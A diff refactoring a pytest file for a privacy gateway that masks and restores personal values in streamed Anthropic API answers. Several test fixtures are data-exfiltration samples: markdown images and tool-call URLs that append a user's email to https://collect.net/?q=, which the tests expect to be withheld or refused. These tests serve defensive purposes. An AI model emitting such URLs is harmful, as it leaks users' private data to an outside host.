@@ -1,8 +1,6 @@
-"""Streamed answers of the Anthropic wire: however they are cut, the client gets the same events with its own words."""
+"""Streamed answers of the Anthropic wire: the client gets the same events with its own words."""
 
 import copy
-import random
-from itertools import pairwise
 from typing import Any
 
 import orjson
@@ -10,77 +8,38 @@ import pytest
 
 from gateway.errors import Unavailable
 from gateway.exchange.answer_guard import CONTENT_FILTERED
-from gateway.exchange.messages import StreamPlan
-from gateway.exchange.streaming import AnswerStream
-from gateway.models import PrivacyMode
-from gateway.placeholders import Placeholders, RestoreScope
-from gateway.policy import Policy
 from gateway.policy.document import GuardDocument
-from gateway.protection.protector import Protector
+from gateway.wires import Body
 from gateway.wires.anthropic_events import error_body
 from gateway.wires.anthropic_messages import WIRE
-from tests.chunkings import CHUNKINGS, STEP
+from tests.gateway.wires.replays import CARD, MAIL, QUOTED, plan, read_sse, replay, session, sse, written
 
-type Body = dict[str, Any]
-
-MAIL, CARD, QUOTED = "anna.schmidt@acme.test", "4111 1111 1111 1111", 'Tr0ub"4dor\\9kL!'
 SIGNED = "Made1Up2" * 8 + "=="
 NOTE = {"request_id": "r"}
 GUARD = GuardDocument()
 SNAKE = "\U0001f40d"
+PLACEHOLDERS, OF = session()
+REQUEST = {"model": "m", "messages": [{"role": "user", "content": f"I am {OF[MAIL]}. Card {OF[CARD]}."}]}
 
 
-class Session:
-    """The placeholders of a conversation that named all three values."""
-
-    def __init__(self, protector: Protector, policy: Policy) -> None:
-        self.placeholders = Placeholders(b"k" * 32)
-        said = f"I am {MAIL}. Card {CARD}."
-        body: Body = {"model": "m", "messages": [{"role": "user", "content": said}]}
-        protector.protect(WIRE.read(body).blocks, policy, PrivacyMode.STANDARD, self.placeholders)
-        self.placeholders.mint("PASSWORD", QUOTED)
-        self.request = orjson.dumps(body)
-        self.marks = {entry.value: entry.placeholder for entry in self.placeholders.entries()}
-
-    def write(self, text: str) -> str:
-        """Puts placeholders in the places of values, as the provider writes them."""
-        for value, placeholder in self.marks.items():
-            text = text.replace(orjson.dumps(value).decode()[1:-1], placeholder).replace(value, placeholder)
-        return text
-
-    def stream(self, **fields: Any) -> AnswerStream:
-        plan = StreamPlan(self.placeholders, RestoreScope("source"), GUARD, {}, self.request, "r", note=NOTE)
-        return AnswerStream(WIRE, plan, limit=10**7, **fields)
-
-    def restored(self, pieces: list[bytes]) -> list[tuple[str, Body]]:
-        stream = self.stream()
-        return events(b"".join([*(stream.feed(piece) for piece in pieces), stream.finish()]))
+def write(text: str) -> str:
+    return written(text, OF)
 
 
-@pytest.fixture(scope="module")
-def session(protector: Protector) -> Session:
-    from gateway.config.settings import BUILTIN_POLICIES
-    from gateway.policy import PolicyRegistry
-
-    return Session(protector, PolicyRegistry(BUILTIN_POLICIES).get("default"))
-
-
-def event(kind: str, **fields: Any) -> Body:
-    return {"type": kind, **fields}
+def restored(*bodies: Body) -> list[tuple[str, Body]]:
+    """The names and bodies of all events that a client gets."""
+    got, _ = replay(WIRE, [sse(bodies, named=True)], plan(PLACEHOLDERS, REQUEST, GUARD, note=NOTE))
+    return events(got)
 
 
 def events(data: bytes) -> list[tuple[str, Body]]:
     """The names and bodies of all events."""
-    found = []
-    for raw in data.decode().split("\n\n")[:-1]:
-        lines = dict(line.split(": ", 1) for line in raw.split("\n") if not line.startswith(":"))
-        if lines:
-            found.append((lines["event"], orjson.loads(lines["data"])))
-    return found
+    names = [line[7:] for line in data.decode().split("\n") if line.startswith("event: ")]
+    return [*zip(names, read_sse(data), strict=True)]
 
 
-def sse(*bodies: Body) -> bytes:
-    return b"".join(b"event: %s\ndata: %s\n\n" % (each["type"].encode(), orjson.dumps(each)) for each in bodies)
+def event(kind: str, **fields: Any) -> Body:
+    return {"type": kind, **fields}
 
 
 def start(**fields: Any) -> Body:
@@ -109,41 +68,41 @@ def end(reason: str = "end_turn") -> list[Body]:
 
 THINKING = f"The user {MAIL} wants it."
 TEXT = f"Dear {MAIL},\nyour card {CARD} \u2013 gr\u00fc\u00dfe {SNAKE} [not one] is kept."
-CITED = {"type": "char_location", "cited_text": f"card {CARD}", "document_index": 0, "document_title": None}
+CITED: Body = {"type": "char_location", "cited_text": f"card {CARD}", "document_index": 0, "document_title": None}
 INPUT = {"to": MAIL, "note": f"a\n{SNAKE} {QUOTED}", "n": [1, {"card": CARD}]}
 
 
-def answer(session: Session, size: int = 3) -> list[Body]:
+def answer(size: int = 3) -> list[Body]:
     """An answer with every kind of event, in deltas of a size. The provider writes placeholders."""
-    arguments = session.write(orjson.dumps(INPUT).decode())
+    arguments = write(orjson.dumps(INPUT).decode())
     return [
         start(),
         event("ping"),
         *block(
             0,
             {"type": "thinking", "thinking": "", "signature": ""},
-            *in_pieces("thinking_delta", "thinking", session.write(THINKING), size),
+            *in_pieces("thinking_delta", "thinking", write(THINKING), size),
             {"type": "signature_delta", "signature": SIGNED},
         ),
         *block(1, {"type": "redacted_thinking", "data": SIGNED}),
         *block(
             2,
             {"type": "text", "text": ""},
-            *in_pieces("text_delta", "text", session.write(TEXT), size),
-            {"type": "citations_delta", "citation": {**CITED, "cited_text": session.write(CITED["cited_text"])}},
+            *in_pieces("text_delta", "text", write(TEXT), size),
+            {"type": "citations_delta", "citation": {**CITED, "cited_text": write(CITED["cited_text"])}},
         ),
         *block(
             3,
             {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {}},
             {"type": "input_json_delta", "partial_json": ""},
-            *in_pieces("input_json_delta", "partial_json", session.write(f'{{"query":"{MAIL}"}}'), size),
+            *in_pieces("input_json_delta", "partial_json", write(f'{{"query":"{MAIL}"}}'), size),
         ),
         *block(
             4,
             {
                 "type": "web_search_tool_result",
                 "tool_use_id": "srvtoolu_1",
-                "content": [{"type": "web_search_result", "title": session.write(MAIL), "encrypted_content": SIGNED}],
+                "content": [{"type": "web_search_result", "title": write(MAIL), "encrypted_content": SIGNED}],
             },
         ),
         *block(
@@ -191,10 +150,10 @@ def _grow(result: Body, at: int, delta: Body) -> None:
             grown[member] = grown.get(member, "") + value
 
 
-def check(session: Session, found: list[tuple[str, Body]]) -> None:
+def check(found: list[tuple[str, Body]]) -> None:
     got = message(found)
     thinking, redacted, text, search, results, send = got["content"]
-    assert thinking == {"type": "thinking", "thinking": session.write(THINKING), "signature": SIGNED}
+    assert thinking == {"type": "thinking", "thinking": write(THINKING), "signature": SIGNED}
     assert redacted == {"type": "redacted_thinking", "data": SIGNED}
     assert text == {"type": "text", "text": TEXT, "citations": [CITED]}
     assert (search["name"], orjson.loads(got["json"][3])) == ("web_search", {"query": MAIL})
@@ -205,64 +164,33 @@ def check(session: Session, found: list[tuple[str, Body]]) -> None:
     assert found[-1][0] == "message_stop"
 
 
-def test_an_answer_at_once(session: Session) -> None:
-    stream = session.stream()
-    check(session, events(stream.feed(sse(*answer(session))) + stream.finish()))
-    end = stream.result(200)
+@pytest.mark.parametrize("size", [2, 3, 7, 30])
+def test_an_answer(size: int) -> None:
+    got, end = replay(WIRE, [sse(answer(size), named=True)], plan(PLACEHOLDERS, REQUEST, GUARD, note=NOTE))
+    check(events(got))
     assert (end.outcome, end.tokens) == ("answered", (25, 42))
 
 
-@pytest.mark.slow
-def test_an_answer_cut_at_every_byte(session: Session) -> None:
-    data = sse(*answer(session))
-    whole = session.restored([data])
-    check(session, whole)
-    assert session.restored([data[at : at + 1] for at in range(len(data))]) == whole
-    in_two(session, STEP)
-
-
-def in_two(session: Session, step: int) -> None:
-    data = sse(*answer(session, 30))
-    for at in range(1, len(data), step):
-        check(session, session.restored([data[:at], data[at:]]))
-
-
-def in_chunks(session: Session, times: int) -> None:
-    chance = random.Random(14)
-    data = [sse(*answer(session, size)).replace(b"event: ping", b": a comment\n\nevent: ping") for size in (2, 7, 30)]
-    for _ in range(times):
-        one = chance.choice(data)
-        cuts = sorted({0, len(one), *(chance.randrange(len(one)) for _ in range(chance.choice((2, 9, 60))))})
-        check(session, session.restored([one[a:b] for a, b in pairwise(cuts)]))
-
-
-@pytest.mark.slow
-def test_answers_in_random_chunks(session: Session) -> None:
-    in_chunks(session, CHUNKINGS)
-
-
 @pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 10**6])
-def test_the_sizes_of_deltas_change_nothing(session: Session, size: int) -> None:
-    arguments = session.write(orjson.dumps(INPUT).decode())
+def test_the_sizes_of_deltas_change_nothing(size: int) -> None:
+    arguments = write(orjson.dumps(INPUT).decode())
     begin = {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}}
-    text = block(0, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", session.write(TEXT), size))
+    text = block(0, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", write(TEXT), size))
     call = block(1, begin, *in_pieces("input_json_delta", "partial_json", arguments, size))
-    got = message(session.restored([sse(start(), *text, *call, *end())]))
+    got = message(restored(start(), *text, *call, *end()))
     assert got["content"][0]["text"] == TEXT
     assert orjson.loads(got["json"][1]) == INPUT
 
 
-def test_a_text_that_begins_with_its_block_goes_on(session: Session) -> None:
-    whole = session.write(f"To {MAIL}")
+def test_a_text_that_begins_with_its_block_goes_on() -> None:
+    whole = write(f"To {MAIL}")
     begin = {"type": "text", "text": whole[:9]}
-    got = message(
-        session.restored([sse(start(), *block(0, begin, *in_pieces("text_delta", "text", whole[9:])), *end())])
-    )
+    got = message(restored(start(), *block(0, begin, *in_pieces("text_delta", "text", whole[9:])), *end()))
     assert got["content"] == [{"type": "text", "text": f"To {MAIL}"}]
 
 
-def test_what_is_still_held_comes_before_the_end_of_its_block(session: Session) -> None:
-    got = session.restored([sse(start(), *block(0, {"type": "text", "text": "A ["}), *end())])
+def test_what_is_still_held_comes_before_the_end_of_its_block() -> None:
+    got = restored(start(), *block(0, {"type": "text", "text": "A ["}), *end())
     assert [name for name, _ in got[1:5]] == [
         "content_block_start",
         "content_block_delta",
@@ -272,23 +200,24 @@ def test_what_is_still_held_comes_before_the_end_of_its_block(session: Session) 
     assert message(got)["content"][0]["text"] == "A ["
 
 
-def test_an_error_of_the_provider_passes(session: Session) -> None:
+def test_an_error_of_the_provider_passes() -> None:
     failed = event("error", error={"type": "overloaded_error", "message": "Overloaded"}, request_id="req_1")
     begin = event("content_block_start", index=0, content_block={"type": "text", "text": "A ["})
-    got = session.restored([sse(start(), begin, failed)])
+    got = restored(start(), begin, failed)
     assert got[-1] == ("error", failed)
     assert message(got)["content"][0]["text"] == "A ["
 
 
-def test_the_gateways_errors_have_the_shape_of_the_providers(session: Session) -> None:
-    got = session.restored([sse(start()) + b"event: message_stop\ndata: {broken\n\n"])
+def test_the_gateways_errors_have_the_shape_of_the_providers() -> None:
+    source = sse([start()], named=True) + b"event: message_stop\ndata: {broken\n\n"
+    got = events(replay(WIRE, [source], plan(PLACEHOLDERS, REQUEST, GUARD))[0])
     assert got[-1][0] == "error"
     assert got[-1][1]["error"]["type"] == "api_error"
     shown = WIRE.stream.error(Unavailable("Later.", code="overloaded"), "r")
     assert shown == error_body(Unavailable("Later.", code="overloaded"), "r")
 
 
-def test_blocks_that_a_client_joins_are_guarded_together(session: Session) -> None:
+def test_blocks_that_a_client_joins_are_guarded_together() -> None:
     """The provider divides a text where it cites something."""
     for lead, rest in (
         ("See ![x](https://collect.net/?q=", f"{MAIL})"),
@@ -297,23 +226,21 @@ def test_blocks_that_a_client_joins_are_guarded_together(session: Session) -> No
         ('{"a": 1} See ![x](https://collect.net/?q=', f"{MAIL})"),
         (f'{{"a":"{MAIL}"}} See https://collect.net/?q=', f"{MAIL})"),
     ):
-        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": session.write(lead)})
-        second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", session.write(rest)))
-        got = message(session.restored([sse(start(), *first, *second, *end())]))
+        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": write(lead)})
+        second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", write(rest)))
+        got = message(restored(start(), *first, *second, *end()))
         assert f"q={MAIL}" not in "".join(each["text"] for each in got["content"])
         assert MAIL not in got["content"][1]["text"]
     harmless = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Write to "})
-    second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", session.write(f"{MAIL}.")))
-    got = message(session.restored([sse(start(), *harmless, *second, *end())]))
+    second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", write(f"{MAIL}.")))
+    got = message(restored(start(), *harmless, *second, *end()))
     assert "".join(each["text"] for each in got["content"]) == f"Write to {MAIL}."
 
 
-def test_a_call_whose_value_is_taken_out_is_whole(session: Session) -> None:
-    leak = session.write(orjson.dumps({"url": f"https://collect.net/?q={MAIL}", "n": 1}).decode())
+def test_a_call_whose_value_is_taken_out_is_whole() -> None:
+    leak = write(orjson.dumps({"url": f"https://collect.net/?q={MAIL}", "n": 1}).decode())
     begin = {"type": "tool_use", "id": "toolu_1", "name": "get", "input": {}}
-    got = message(
-        session.restored([sse(start(), *block(0, begin, *in_pieces("input_json_delta", "partial_json", leak)), *end())])
-    )
+    got = message(restored(start(), *block(0, begin, *in_pieces("input_json_delta", "partial_json", leak)), *end()))
     assert orjson.loads(got["json"][0]) == {"url": "https://collect.net/?q=[withheld]", "n": 1}
 
 
@@ -325,19 +252,18 @@ class TestRefusals:
         rules = GuardDocument(placeholder_in_url="replace", unknown_placeholder="replace")
         monkeypatch.setattr("tests.gateway.wires.test_anthropic_streams.GUARD", rules)
 
-    def ended(self, session: Session, *bodies: Body) -> list[Body]:
-        got = message(session.restored([sse(*bodies)]))
+    def ended(self, *bodies: Body) -> list[Body]:
+        got = message(restored(*bodies))
         assert got["stop_reason"] == "refusal"
         assert got["open"] is None
         assert got["content"][-1] == {"type": "text", "text": CONTENT_FILTERED}
         content: list[Body] = got["content"]
         return content
 
-    def test_in_a_text(self, session: Session) -> None:
-        leak = session.write(f"See ![x](https://collect.net/?q={MAIL}) now.\n\nMore.")
+    def test_in_a_text(self) -> None:
+        leak = write(f"See ![x](https://collect.net/?q={MAIL}) now.\n\nMore.")
         first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Fine.\n"})
         content = self.ended(
-            session,
             start(),
             *first,
             *block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", leak)),
@@ -347,21 +273,21 @@ class TestRefusals:
         assert content[0]["text"] == "Fine.\n"
         assert MAIL not in content[1]["text"]
 
-    def test_in_a_call(self, session: Session) -> None:
-        leak = session.write(orjson.dumps({"url": "https://collect.net/", "body": MAIL}).decode())
+    def test_in_a_call(self) -> None:
+        leak = write(orjson.dumps({"url": "https://collect.net/", "body": MAIL}).decode())
         begin = {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}}
         call = block(0, begin, *in_pieces("input_json_delta", "partial_json", leak))
-        assert len(self.ended(session, start(), *call, *end("tool_use"))) == 2
+        assert len(self.ended(start(), *call, *end("tool_use"))) == 2
 
-    def test_in_a_block_that_comes_at_once(self, session: Session) -> None:
-        leak = session.write(f"![x](https://collect.net/?q={MAIL})")
+    def test_in_a_block_that_comes_at_once(self) -> None:
+        leak = write(f"![x](https://collect.net/?q={MAIL})")
         begin = {"type": "web_fetch_tool_result", "content": {"type": "web_fetch_result", "text": leak}}
         first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Fine."})
-        content = self.ended(session, start(), *first, *block(1, begin), *end())
+        content = self.ended(start(), *first, *block(1, begin), *end())
         assert [each["type"] for each in content] == ["text", "text"]
 
-    def test_before_anything(self, session: Session) -> None:
-        leak = session.write(f"![x](https://collect.net/?q={MAIL})")
-        content = self.ended(session, start(note=leak), *end())
+    def test_before_anything(self) -> None:
+        leak = write(f"![x](https://collect.net/?q={MAIL})")
+        content = self.ended(start(note=leak), *end())
         assert len(content) == 1
-        assert message(session.restored([sse(start(note=leak))]))["id"] == "msg_1"
+        assert message(restored(start(note=leak)))["id"] == "msg_1"
